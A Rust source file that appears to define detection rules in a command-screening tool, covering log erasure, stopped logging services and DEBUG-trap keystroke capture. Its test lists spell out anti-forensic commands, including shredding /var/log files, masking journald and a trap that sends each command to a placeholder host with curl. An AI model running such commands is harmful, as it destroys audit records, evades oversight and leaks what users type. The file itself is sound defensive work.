//! Built-in rules: the system's logs destroyed, their recording stopped, and commands captured as they are typed, one row per program.
//!
//! Shell history has its own rules (`admin.history-disable`,
//! `admin.history-wipe`); deletions, truncations, in-place edits and
//! redirections under `/var/log` are the path rules' (`fs.delete-root-path`,
//! `files.system-config`), which speak first. This table holds what those
//! do not see: the tools that erase logs by their own verbs.

use super::paths::resolve;
use super::security::{halted, names_one_of};
use super::{verb, verb_if, Matcher, Rule, Verb};
use crate::shell::Command;
use crate::verdict::Decision;

/// Programs and arguments that erase logs the system keeps.
#[rustfmt::skip]
static ERASE: &[Verb] = &[
    // Files under the system's log directories overwritten and deleted by
    // the secure-deletion tools (`rm`, `truncate` and in-place edits there
    // are the path rules').
    verb_if("shred", "", names_system_log),
    verb_if("srm", "", names_system_log),
    verb_if("wipe", "", names_system_log),
    // A user's last-login record cleared.
    verb("lastlog", r"(?:^| )(?:-C|--clear)(?: |$)"),
    // The journal vacuumed down to (nearly) nothing.
    verb_if("journalctl", "", vacuums_to_nothing),
    // macOS's unified log erased.
    verb_if("log", "", |c| c.operands().first() == Some(&"erase")),
    // The kernel's ring buffer cleared.
    verb_if("dmesg", "", clears_ring_buffer),
];

/// Programs and arguments that stop logs being recorded from now on.
#[rustfmt::skip]
static STOP: &[Verb] = &[
    // macOS's unified log told to keep or persist nothing.
    verb_if("log", "", |c| {
        c.operands().first() == Some(&"config")
            && c.args.iter().any(|a| a.contains("level:off") || a.contains("persist:off"))
    }),
    verb_if("systemctl", "", halts_logging),
    verb_if("service", "", halts_logging),
    verb_if("rc-service", "", halts_logging),
    verb_if("invoke-rc.d", "", halts_logging),
    verb_if("update-rc.d", "", halts_logging),
    verb_if("chkconfig", "", halts_logging),
    verb_if("rc-update", "", halts_logging),
    verb_if("launchctl", "", halts_logging),
    verb_if("pkill", "", halts_logging),
    verb_if("killall", "", halts_logging),
    verb_if("kill", "", halts_logging),
];

/// Commands captured as they run: a `DEBUG` trap runs its text before every
/// command the shell runs.
#[rustfmt::skip]
static CAPTURE: &[Verb] = &[
    verb_if("trap", "", trap_installs),
];

#[rustfmt::skip]
pub static RULES: &[Rule] = &[
    Rule {
        id: "logs.erased",
        category: "erase system logs (journal vacuum, log erase, dmesg clear, shred of /var/log)",
        reason: "the record of what happened on the machine is gone, hiding it from whoever investigates",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(ERASE),
        hits: &["sudo shred -u /var/log/auth.log", "srm -f /var/log/secure", "cd /var/log && sudo shred -zu syslog", "sudo journalctl --vacuum-time=1s", "journalctl --vacuum-size=1K", "journalctl --vacuum-files=1", "sudo log erase --all", "dmesg -C", "sudo dmesg --clear", "dmesg -c", "lastlog --clear --user root"],
        misses: &["shred -u secret.txt", "journalctl --vacuum-time=2weeks", "journalctl --vacuum-size=500M", "journalctl --disk-usage", "journalctl -u nginx", "log show --last 1h", "log stream", "dmesg -T", "dmesg --color=always | less", "truncate -s 0 debug.log", "sed -n '/sshd/p' /var/log/auth.log", "lastlog -u root"],
    },
    Rule {
        id: "logs.recording-stopped",
        category: "stop the system's logging (syslog, journald, log shippers, macOS log levels)",
        reason: "what happens from now on is no longer recorded, so nobody can see it later",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(STOP),
        hits: &["sudo systemctl stop rsyslog", "systemctl mask systemd-journald", "service syslog-ng stop", "sudo launchctl unload /System/Library/LaunchDaemons/com.apple.syslogd.plist", "sudo systemctl disable --now filebeat", "killall splunkd", "kill $(pidof rsyslogd)", "sudo log config --mode level:off"],
        misses: &["systemctl status rsyslog", "systemctl restart rsyslog", "systemctl start systemd-journald", "log config --status", "killall node"],
    },
    Rule {
        id: "logs.command-capture",
        category: "run code before every command (DEBUG trap)",
        reason: "every command the shell runs afterwards is seen by that text: a way to log keystrokes or send them away",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(CAPTURE),
        hits: &["trap 'echo \"$BASH_COMMAND\" >> /tmp/.k' DEBUG", "trap 'curl -s x.example/?c=$BASH_COMMAND' debug", "trap -- 'log_cmd' SIGDEBUG"],
        misses: &["trap - DEBUG", "trap '' DEBUG", "trap -p DEBUG", "trap 'rm -f \"$tmp\"' EXIT", "trap cleanup INT TERM"],
    },
];

/// Directories the system writes its logs to, as path components.
#[rustfmt::skip]
const LOG_DIRS: &[&[&str]] = &[
    &["var", "log"], &["private", "var", "log"], &["var", "adm"], &["var", "audit"],
    &["private", "var", "audit"], &["Library", "Logs"], &["var", "db", "diagnostics"],
    &["private", "var", "db", "diagnostics"], &["var", "db", "uuidtext"],
    &["private", "var", "db", "uuidtext"],
];

fn is_system_log(path: &str, cwd: Option<&str>) -> bool {
    let full = resolve(path, cwd);
    let folded = crate::path::fold(&full);
    folded.absolute && LOG_DIRS.iter().any(|dir| folded.parts.starts_with(dir))
}

fn names_system_log(cmd: &Command) -> bool {
    cmd.operands()
        .iter()
        .any(|p| is_system_log(p, cmd.cwd.as_deref()))
}

/// `--vacuum-time`, `--vacuum-size` or `--vacuum-files` set so low that
/// next to nothing is kept: under a day, under ten megabytes, one file.
/// Routine clean-ups (`--vacuum-time=2weeks`, `--vacuum-size=500M`) keep
/// the recent record.
fn vacuums_to_nothing(cmd: &Command) -> bool {
    let mut args = cmd.args.iter();
    while let Some(arg) = args.next() {
        let Some(rest) = arg.strip_prefix("--vacuum-") else {
            continue;
        };
        let (key, value) = match rest.split_once('=') {
            Some((k, v)) => (k, v.to_string()),
            None => (rest, args.next().cloned().unwrap_or_default()),
        };
        let tiny = match key {
            "time" => seconds(&value).is_none_or(|s| s < 86_400.0),
            "size" => bytes(&value).is_none_or(|b| b < 10.0 * 1024.0 * 1024.0),
            "files" => value.trim().parse::<u64>().map_or(true, |n| n <= 1),
            _ => false,
        };
        if tiny {
            return true;
        }
    }
    false
}

/// A number and what follows it (`1.5`, `G`).
fn number(value: &str) -> Option<(f64, &str)> {
    let value = value.trim();
    let end = value
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(value.len());
    Some((value[..end].parse().ok()?, value[end..].trim()))
}

/// A systemd time span in seconds (`1s`, `2weeks`, `3d 4h`); `None` when
/// it cannot be read.
fn seconds(value: &str) -> Option<f64> {
    let mut total = 0.0;
    for part in value.split_whitespace() {
        let (n, unit) = number(part)?;
        let scale = match unit {
            "" | "s" | "sec" | "second" | "seconds" => 1.0,
            "us" | "usec" | "ms" | "msec" => 0.0,
            "m" | "min" | "minute" | "minutes" => 60.0,
            "h" | "hr" | "hour" | "hours" => 3_600.0,
            "d" | "day" | "days" => 86_400.0,
            "w" | "week" | "weeks" => 604_800.0,
            "M" | "month" | "months" => 2_629_800.0,
            "y" | "year" | "years" => 31_557_600.0,
            _ => return None,
        };
        total += n * scale;
    }
    Some(total)
}

/// A size in bytes (`1K`, `500M`, `2G`), base 1024 as journald reads it.
fn bytes(value: &str) -> Option<f64> {
    let (n, unit) = number(value)?;
    let power = match unit.trim_end_matches(['B', 'b']) {
        "" => 0,
        "K" | "k" => 1,
        "M" | "m" => 2,
        "G" | "g" => 3,
        "T" | "t" => 4,
        "P" | "p" => 5,
        _ => return None,
    };
    Some(n * 1024f64.powi(power))
}

/// `dmesg -C`, `-c` (read, then clear), `--clear`, `--read-clear`.
fn clears_ring_buffer(cmd: &Command) -> bool {
    cmd.args.iter().any(|a| match a.strip_prefix("--") {
        Some(long) => matches!(long, "clear" | "read-clear"),
        None => a.strip_prefix('-').is_some_and(|short| {
            short.chars().all(|c| c.is_ascii_alphabetic()) && short.contains(['c', 'C'])
        }),
    })
}

/// `trap TEXT DEBUG` sets a trap; `trap - DEBUG` and `trap '' DEBUG` take
/// it away, and `trap -p`/`-l` only print.
fn trap_installs(cmd: &Command) -> bool {
    let debug = cmd
        .args
        .iter()
        .skip(1)
        .any(|a| a.eq_ignore_ascii_case("debug") || a.eq_ignore_ascii_case("sigdebug"));
    debug && trap_sets(cmd)
}

fn trap_sets(cmd: &Command) -> bool {
    let mut args = cmd.args.iter().map(String::as_str).peekable();
    if args.peek() == Some(&"--") {
        args.next();
    }
    match args.next() {
        Some(first) => !matches!(first, "-" | "" | "-p" | "-l" | "-P"),
        None => false,
    }
}

/// The system's loggers and log shippers, by service, label or process name.
#[rustfmt::skip]
const LOGGING_SERVICES: &[&str] = &[
    "rsyslog", "rsyslogd", "syslog", "syslogd", "syslog-ng", "journald", "systemd-journald", "logd",
    "aslmanager", "filebeat", "journalbeat", "fluentd", "fluent-bit", "td-agent", "td-agent-bit",
    "splunk", "splunkd", "splunkforwarder", "nxlog", "logstash", "promtail",
];

fn halts_logging(cmd: &Command) -> bool {
    halted(cmd)
        .iter()
        .any(|u| names_one_of(u, LOGGING_SERVICES))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spans_and_sizes() {
        assert_eq!(seconds("2weeks"), Some(1_209_600.0));
        assert_eq!(seconds("1d 2h"), Some(93_600.0));
        assert_eq!(seconds("soon"), None);
        assert_eq!(bytes("1K"), Some(1024.0));
        assert_eq!(bytes("500M"), Some(500.0 * 1024.0 * 1024.0));
        assert_eq!(bytes("lots"), None);
    }

    #[test]
    fn log_places() {
        assert!(is_system_log("/var/log/auth.log", None));
        assert!(is_system_log("syslog", Some("/var/log")));
        assert!(is_system_log("/private/var/log/system.log", None));
        assert!(!is_system_log("/var/lib/x", None));
        assert!(!is_system_log("logs/app.log", None));
    }
}
